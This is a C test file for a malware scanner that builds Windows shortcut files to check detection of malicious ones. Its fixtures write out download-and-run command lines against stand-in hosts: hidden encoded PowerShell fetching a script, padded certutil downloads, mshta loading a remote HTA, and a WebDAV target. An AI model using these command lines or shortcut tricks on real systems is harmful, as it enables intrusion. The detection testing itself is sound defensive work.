/*
 * test_lnk.c - Windows shortcuts written here from MS-SHLLINK: header,
 * LinkTargetIDList (root, volume and file-entry shell items with their
 * 0xbeef0004 long names), LinkInfo (local path or network share),
 * StringData (UTF-16 or ANSI) and ExtraData (environment-variable target,
 * tracker). The attacks: PowerShell in a hidden window with -enc (decoded
 * into a child), padded cmd arguments, mshta through an environment
 * target, appended payloads, WebDAV targets. Plain shortcuts to documents
 * and programs must stay at info.
 */
#include <stdbool.h>

#include "testutil.h"

struct lnk_spec {
	uint32_t show;
	const char *const *idlist; /* "C:\\" then names; NULL: none */
	const char *local;         /* LinkInfo local base path */
	const char *share;         /* LinkInfo network share ... */
	const char *suffix;        /* ... and the path below it */
	const char *name, *relpath, *workdir, *args, *icon;
	bool ansi;
	const char *env_target;
	const char *machine;
	const uint8_t *append;
	size_t append_len;
	uint16_t idlist_lie; /* IDListSize written instead of the real one */
};

static void put16(GByteArray *a, uint16_t v)
{
	uint8_t b[2] = {(uint8_t)v, (uint8_t)(v >> 8)};

	g_byte_array_append(a, b, 2);
}

static void put32(GByteArray *a, uint32_t v)
{
	uint8_t b[4] = {(uint8_t)v, (uint8_t)(v >> 8), (uint8_t)(v >> 16), (uint8_t)(v >> 24)};

	g_byte_array_append(a, b, 4);
}

static void set16(GByteArray *a, size_t off, uint16_t v)
{
	a->data[off] = (uint8_t)v;
	a->data[off + 1] = (uint8_t)(v >> 8);
}

static void set32(GByteArray *a, size_t off, uint32_t v)
{
	for (int i = 0; i < 4; i++)
		a->data[off + i] = (uint8_t)(v >> (8 * i));
}

static void zeros(GByteArray *a, size_t n)
{
	static const uint8_t z[1] = {0};

	for (size_t i = 0; i < n; i++)
		g_byte_array_append(a, z, 1);
}

static void putwide(GByteArray *a, const char *s, bool nul)
{
	for (; *s; s++)
		put16(a, (uint8_t)*s);
	if (nul)
		put16(a, 0);
}

/* a file entry shell item with a version 9 extension block */
static void file_item(GByteArray *a, const char *name, bool dir)
{
	size_t start = a->len, ext;
	char shortname[13];

	g_strlcpy(shortname, name, sizeof shortname);
	put16(a, 0);
	g_byte_array_append(a, (const uint8_t *)(dir ? "\x31\x00" : "\x32\x00"), 2);
	put32(a, dir ? 0 : 12345);
	put32(a, 0x5a2b4c3d);
	put16(a, dir ? 0x10 : 0x20);
	g_byte_array_append(a, (const uint8_t *)shortname, (guint)strlen(shortname) + 1);
	if ((a->len - start) % 2)
		zeros(a, 1);
	ext = a->len;
	put16(a, 0);
	put16(a, 9);
	put32(a, 0xbeef0004);
	put32(a, 0x5a2b4c3d);
	put32(a, 0x5a2b4c3d);
	put16(a, 0x2e);
	put16(a, 0);
	zeros(a, 16);
	put16(a, 0);
	put32(a, 0);
	put32(a, 0);
	putwide(a, name, true);
	put16(a, (uint16_t)(ext - start));
	set16(a, ext, (uint16_t)(a->len - ext));
	set16(a, start, (uint16_t)(a->len - start));
}

static void string_data(GByteArray *a, const char *s, bool ansi)
{
	put16(a, (uint16_t)strlen(s));
	if (ansi)
		g_byte_array_append(a, (const uint8_t *)s, (guint)strlen(s));
	else
		putwide(a, s, false);
}

static GByteArray *build_lnk(const struct lnk_spec *sp)
{
	static const uint8_t clsid[16] = {0x01, 0x14, 0x02, 0, 0, 0, 0, 0,
	                                  0xc0, 0,    0,    0, 0, 0, 0, 0x46};
	GByteArray *a = g_byte_array_new();
	uint32_t flags = 0;
	const char *strs[5] = {sp->name, sp->relpath, sp->workdir, sp->args, sp->icon};

	if (sp->idlist)
		flags |= 1;
	if (sp->local || sp->share)
		flags |= 2;
	for (int i = 0; i < 5; i++)
		if (strs[i])
			flags |= 4u << i;
	if (!sp->ansi)
		flags |= 0x80;
	if (sp->env_target)
		flags |= 0x200;

	put32(a, 0x4c);
	g_byte_array_append(a, clsid, 16);
	put32(a, flags);
	put32(a, 0x20);
	zeros(a, 24);
	put32(a, 0);
	put32(a, 0);
	put32(a, sp->show ? sp->show : 1);
	put16(a, 0);
	zeros(a, 10);

	if (sp->idlist) {
		size_t at = a->len;
		static const uint8_t root[] = {0x14, 0x00, 0x1f, 0x50, 0xe0, 0x4f, 0xd0,
		                               0x20, 0xea, 0x3a, 0x69, 0x10, 0xa2, 0xd8,
		                               0x08, 0x00, 0x2b, 0x30, 0x30, 0x9d};

		put16(a, 0);
		g_byte_array_append(a, root, sizeof root);
		for (const char *const *c = sp->idlist; *c; c++) {
			if (c == sp->idlist) {
				size_t v = a->len;

				put16(a, 25);
				g_byte_array_append(a, (const uint8_t *)"\x2f", 1);
				g_byte_array_append(a, (const uint8_t *)*c, (guint)strlen(*c));
				zeros(a, 25 - 3 - strlen(*c));
				g_assert(a->len - v == 25);
			} else {
				file_item(a, *c, c[1] != NULL);
			}
		}
		put16(a, 0);
		set16(a, at, sp->idlist_lie ? sp->idlist_lie : (uint16_t)(a->len - at - 2));
	}
	if (sp->local || sp->share) {
		size_t at = a->len;

		put32(a, 0);
		put32(a, 0x1c);
		put32(a, sp->local ? 1 : 2);
		put32(a, 0);
		put32(a, 0);
		put32(a, 0);
		put32(a, 0);
		if (sp->local) {
			set32(a, at + 12, (uint32_t)(a->len - at));
			put32(a, 0x11);
			put32(a, 3);
			put32(a, 0x1234abcd);
			put32(a, 0x10);
			zeros(a, 1);
			set32(a, at + 16, (uint32_t)(a->len - at));
			g_byte_array_append(a, (const uint8_t *)sp->local,
			                    (guint)strlen(sp->local) + 1);
		} else {
			size_t c = a->len;

			set32(a, at + 20, (uint32_t)(c - at));
			put32(a, 0);
			put32(a, 0);
			put32(a, 0x14);
			put32(a, 0);
			put32(a, 0x20000);
			g_byte_array_append(a, (const uint8_t *)sp->share,
			                    (guint)strlen(sp->share) + 1);
			set32(a, c, (uint32_t)(a->len - c));
		}
		set32(a, at + 24, (uint32_t)(a->len - at));
		g_byte_array_append(a, (const uint8_t *)(sp->suffix ? sp->suffix : ""),
		                    (guint)strlen(sp->suffix ? sp->suffix : "") + 1);
		set32(a, at, (uint32_t)(a->len - at));
	}
	for (int i = 0; i < 5; i++)
		if (strs[i])
			string_data(a, strs[i], sp->ansi);
	if (sp->env_target) {
		size_t at = a->len;

		put32(a, 0x314);
		put32(a, 0xa0000001);
		zeros(a, 0x314 - 8);
		memcpy(a->data + at + 8, sp->env_target, strlen(sp->env_target));
		for (size_t i = 0; sp->env_target[i]; i++)
			a->data[at + 268 + 2 * i] = (uint8_t)sp->env_target[i];
	}
	if (sp->machine) {
		size_t at = a->len;

		put32(a, 0x60);
		put32(a, 0xa0000003);
		put32(a, 0x58);
		put32(a, 0);
		zeros(a, 0x60 - 16);
		memcpy(a->data + at + 16, sp->machine, strlen(sp->machine));
	}
	put32(a, 0);
	if (sp->append)
		g_byte_array_append(a, sp->append, (guint)sp->append_len);
	return a;
}

/* VIGIL_SEED_DIR=tests/fuzz/seeds: write this input as a fuzz seed */
static void seed_out(const char *name, const void *p, size_t n)
{
	const char *dir = getenv("VIGIL_SEED_DIR");
	char *path;

	if (dir == NULL)
		return;
	path = g_build_filename(dir, name, NULL);
	assert_true(g_file_set_contents(path, p, (gssize)n, NULL));
	g_free(path);
}

static vigil_engine *eng(void)
{
	return tu_engine(NULL, NULL);
}

static vigil_scan *scan_lnk(vigil_engine *e, const struct lnk_spec *sp)
{
	GByteArray *f = build_lnk(sp);
	vigil_scan *s = tu_scan(e, f->data, f->len, "drill.lnk");

	g_byte_array_free(f, TRUE);
	return s;
}

static long expect(const vigil_scan *s, const char *id, const char *path, const char *attack)
{
	long i = tu_finding(s, id);

	if (i < 0) {
		tu_dump(s);
		fail_msg("missing %s", id);
	}
	assert_string_equal(tu_finding_path(s, i), path);
	if (attack != NULL) {
		const char *a = vigil_finding_attack(vigil_scan_finding(s, (size_t)i));
		gchar **want = g_strsplit(attack, ",", 0);

		for (gchar **w = want; *w; w++)
			if (strstr(a, *w) == NULL)
				fail_msg("%s: ATT&CK %s lacks %s", id, a, *w);
		g_strfreev(want);
	}
	return i;
}

static const char *evidence(const vigil_scan *s, long i)
{
	return vigil_finding_evidence(vigil_scan_finding(s, (size_t)i));
}

static void expect_info_only(const vigil_scan *s)
{
	for (size_t i = 0; i < vigil_scan_finding_count(s); i++) {
		const vigil_finding *f = vigil_scan_finding(s, i);

		if (strncmp(vigil_finding_id(f), "content.", 8) == 0)
			continue;
		if (vigil_finding_severity(f) > VIGIL_SEV_INFO) {
			tu_dump(s);
			fail_msg("plain shortcut got %s", vigil_finding_id(f));
		}
	}
}

static char *ps_enc(const char *script)
{
	GByteArray *w = g_byte_array_new();
	char *b64;

	putwide(w, script, false);
	b64 = g_base64_encode(w->data, w->len);
	g_byte_array_free(w, TRUE);
	return b64;
}

static void test_powershell_hidden_enc(void **state)
{
	vigil_engine *e = eng();
	char *b64 = ps_enc("IEX (New-Object Net.WebClient).DownloadString("
	                   "'http://evil.example.com/a.ps1')");
	char *args = g_strdup_printf("-NoP -W Hidden -enc %s", b64);
	struct lnk_spec sp = {
	        .show = 7,
	        .local = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
	        .relpath = "..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
	        .args = args,
	        .icon = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
	        .machine = "desktop-drill01",
	};
	vigil_scan *s = scan_lnk(e, &sp);
	const vigil_object *child;
	long i;

	(void)state;
	i = expect(s, "lnk.command", "drill.lnk", "T1204.002,T1059.001");
	assert_int_equal(vigil_finding_severity(vigil_scan_finding(s, (size_t)i)), VIGIL_SEV_HIGH);
	assert_non_null(strstr(evidence(s, i), "powershell.exe arguments -NoP -W Hidden -enc"));
	expect(s, "lnk.hidden_window", "drill.lnk", "T1564.003");
	expect(s, "lnk.icon_mismatch", "drill.lnk", "T1036");
	i = expect(s, "script.encoded_command", "drill.lnk", "T1027,T1059.001");
	assert_non_null(strstr(evidence(s, i), "decodes to: IEX (New-Object Net.WebClient)"));
	child = tu_object(s, "drill.lnk/encoded_command.ps1");
	assert_non_null(child);
	assert_string_equal(vigil_object_type(child), "text");
	expect(s, "script.downloader", "drill.lnk/encoded_command.ps1", "T1105,T1059.001");
	i = expect(s, "lnk.summary", "drill.lnk", NULL);
	assert_non_null(strstr(evidence(s, i), "made on desktop-drill01"));
	assert_non_null(strstr(evidence(s, i), "window minimised"));
	{
		bool url = false;

		for (size_t k = 0; k < vigil_scan_fact_count(s, VIGIL_FACT_URL); k++)
			url |= strcmp(vigil_scan_fact(s, VIGIL_FACT_URL, k),
			              "http://evil.example.com/a.ps1") == 0;
		assert_true(url);
	}
	assert_int_equal(vigil_scan_verdict(s), VIGIL_MALICIOUS);
	vigil_scan_free(s);
	g_free(args);
	g_free(b64);
	vigil_engine_unref(e);
}

static void test_padded_cmd(void **state)
{
	vigil_engine *e = eng();
	GString *args = g_string_new(NULL);
	struct lnk_spec sp = {.env_target = "%windir%\\system32\\cmd.exe"};
	vigil_scan *s;
	long i;

	(void)state;
	for (int k = 0; k < 300; k++)
		g_string_append_c(args, ' ');
	g_string_append(args, "/c certutil -urlcache -split -f http://203.0.113.9/p.exe "
	                      "%TEMP%\\p.exe && %TEMP%\\p.exe");
	sp.args = args->str;
	s = scan_lnk(e, &sp);
	i = expect(s, "lnk.long_arguments", "drill.lnk", "T1027");
	assert_non_null(strstr(evidence(s, i), "300 blank before the command"));
	i = expect(s, "lnk.command", "drill.lnk", "T1204.002,T1059.003");
	assert_non_null(strstr(evidence(s, i), "target %windir%\\system32\\cmd.exe arguments /c"));
	expect(s, "script.downloader", "drill.lnk", "T1105");
	expect(s, "script.lolbin", "drill.lnk", "T1105");
	vigil_scan_free(s);
	g_string_free(args, TRUE);
	vigil_engine_unref(e);
}

static void test_plain_shortcuts_quiet(void **state)
{
	vigil_engine *e = eng();
	const char *const doc[] = {"C:\\", "Users", "an", "Documents", "BaoCao_Q3.docx", NULL};
	vigil_scan *s;
	long i;

	(void)state;
	/* a document, known only through the ID list */
	{
		struct lnk_spec sp = {.idlist = doc,
		                      .workdir = "C:\\Users\\an\\Documents",
		                      .machine = "pc-ketoan-07"};

		s = scan_lnk(e, &sp);
		i = expect(s, "lnk.summary", "drill.lnk", NULL);
		assert_non_null(
		        strstr(evidence(s, i), "target C:\\Users\\an\\Documents\\BaoCao_Q3.docx"));
		expect_info_only(s);
		vigil_scan_free(s);
	}
	/* a browser opening the agency's portal, with its own icon */
	{
		struct lnk_spec sp = {
		        .local = "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
		        .args = "https://baohiemxahoi.gov.vn",
		        .icon = "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
		        .ansi = true,
		};

		s = scan_lnk(e, &sp);
		expect_info_only(s);
		vigil_scan_free(s);
	}
	/* a program the user runs minimised, with arguments */
	{
		struct lnk_spec sp = {
		        .show = 7,
		        .local = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
		        .args = "/recycle",
		};

		s = scan_lnk(e, &sp);
		expect_info_only(s);
		vigil_scan_free(s);
	}
	/* a plain shortcut to the command prompt, no arguments */
	{
		struct lnk_spec sp = {.local = "C:\\Windows\\System32\\cmd.exe",
		                      .workdir = "%HOMEDRIVE%%HOMEPATH%"};

		s = scan_lnk(e, &sp);
		expect_info_only(s);
		vigil_scan_free(s);
	}
	vigil_engine_unref(e);
}

/* a batch file run minimised */
static void test_minimised_batch(void **state)
{
	vigil_engine *e = eng();
	struct lnk_spec sp = {.show = 7, .local = "C:\\Users\\Public\\update.bat"};
	vigil_scan *s = scan_lnk(e, &sp);

	(void)state;
	expect(s, "lnk.hidden_window", "drill.lnk", "T1564.003");
	vigil_scan_free(s);
	vigil_engine_unref(e);
}

static void test_mshta_env_ansi(void **state)
{
	vigil_engine *e = eng();
	struct lnk_spec sp = {.env_target = "%SystemRoot%\\System32\\mshta.exe",
	                      .args = "http://evil.example.org/x.hta",
	                      .icon = "%SystemRoot%\\System32\\shell32.dll",
	                      .ansi = true};
	vigil_scan *s = scan_lnk(e, &sp);

	(void)state;
	expect(s, "lnk.command", "drill.lnk", "T1204.002,T1218.005");
	expect(s, "script.lolbin", "drill.lnk", "T1218.005");
	expect(s, "lnk.icon_mismatch", "drill.lnk", NULL);
	vigil_scan_free(s);
	vigil_engine_unref(e);
}

static void test_appended_and_remote(void **state)
{
	vigil_engine *e = eng();
	uint8_t payload[300];
	vigil_scan *s;
	const vigil_object *child;

	(void)state;
	memset(payload, 0x41, sizeof payload);
	payload[0] = 'M';
	payload[1] = 'Z';
	{
		struct lnk_spec sp = {
		        .local = "C:\\Windows\\System32\\cmd.exe",
		        .args = "/c findstr /b TVq %~f0 > %TEMP%\\x.b64 && certutil -decode "
		                "%TEMP%\\x.b64 %TEMP%\\x.exe",
		        .append = payload,
		        .append_len = sizeof payload};

		s = scan_lnk(e, &sp);
		expect(s, "lnk.appended_data", "drill.lnk", "T1027");
		child = tu_object(s, "drill.lnk/appended");
		assert_non_null(child);
		assert_string_equal(vigil_object_type(child), "mz");
		expect(s, "script.lolbin", "drill.lnk", "T1140");
		vigil_scan_free(s);
	}
	{
		struct lnk_spec sp = {.share = "\\\\203.0.113.5@SSL\\DavWWWRoot",
		                      .suffix = "invoice.exe"};

		s = scan_lnk(e, &sp);
		expect(s, "lnk.remote_target", "drill.lnk", "T1187");
		assert_non_null(strstr(evidence(s, tu_finding(s, "lnk.summary")),
		                       "\\\\203.0.113.5@SSL\\DavWWWRoot\\invoice.exe"));
		vigil_scan_free(s);
	}
	vigil_engine_unref(e);
}

static void test_malformed(void **state)
{
	vigil_engine *e = eng();
	const char *const doc[] = {"C:\\", "Users", "an", "run.bat", NULL};
	char *b64 = ps_enc("Start-Process calc");
	char *args = g_strdup_printf("-enc %s", b64);
	struct lnk_spec sp = {
	        .idlist = doc,
	        .local = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
	        .args = args,
	        .icon = "C:\\x\\report.pdf",
	        .env_target = "%windir%\\System32\\WindowsPowerShell\\v1.0\\"
	                      "powershell.exe",
	        .machine = "m"};
	GByteArray *f = build_lnk(&sp);
	vigil_scan *s;

	(void)state;
	seed_out("lnk-features.lnk", f->data, f->len);
	/* every prefix: bounded, no crash */
	for (size_t n = 0; n <= f->len; n++) {
		uint8_t *copy = g_memdup2(f->data, n ? n : 1);

		s = tu_scan(e, copy, n, "cut.lnk");
		vigil_scan_free(s);
		g_free(copy);
	}
	/* every byte flipped in turn */
	for (size_t i = 0; i < f->len; i += 3) {
		uint8_t *copy = g_memdup2(f->data, f->len);

		copy[i] ^= 0xa5;
		s = tu_scan(e, copy, f->len, "flip.lnk");
		vigil_scan_free(s);
		g_free(copy);
	}
	g_byte_array_free(f, TRUE);
	/* an ID list that claims more than the file holds */
	sp.idlist_lie = 0xfff0;
	s = scan_lnk(e, &sp);
	expect(s, "lnk.malformed", "drill.lnk", NULL);
	vigil_scan_free(s);
	/* an ID list item that runs past its list */
	sp.idlist_lie = 40;
	s = scan_lnk(e, &sp);
	assert_non_null(strstr(evidence(s, expect(s, "lnk.malformed", "drill.lnk", NULL)),
	                       "shell item runs past the ID list"));
	vigil_scan_free(s);
	g_free(args);
	g_free(b64);
	vigil_engine_unref(e);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(test_powershell_hidden_enc),
	        cmocka_unit_test(test_padded_cmd),
	        cmocka_unit_test(test_plain_shortcuts_quiet),
	        cmocka_unit_test(test_minimised_batch),
	        cmocka_unit_test(test_mshta_env_ansi),
	        cmocka_unit_test(test_appended_and_remote),
	        cmocka_unit_test(test_malformed),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
